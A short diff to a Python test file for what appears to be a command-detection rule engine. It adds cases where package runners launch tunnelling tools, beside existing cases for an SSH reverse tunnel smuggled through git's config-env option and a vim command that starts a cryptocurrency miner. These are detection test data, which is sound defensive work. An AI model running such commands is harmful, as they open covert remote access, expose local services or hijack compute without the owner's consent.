@@ -347,6 +347,8 @@ def builtin_engine():
     ("S='ssh -fNR 4444:localhost:22 a@203.0.113.7'; git --config-env=core.sshCommand=S fetch", "bash",
      "ssh_reverse_tunnel"),
     ("vim -c ':!xmrig -o pool.minexmr.com:4444' -c ':q'", "bash", "miner_program"),
+    ("npx -y localtunnel --port 8080", "bash", "tunnelling_tool"),   # a package runner runs the package
+    ("pnpm dlx cloudflared tunnel --url http://localhost:8080", "bash", "tunnelling_tool"),
 ])
 def test_prefilter_does_not_hide_what_the_rules_see(builtin_engine, text, tool, rule):
     fields = {"language": "python"} if tool == "python" else {}
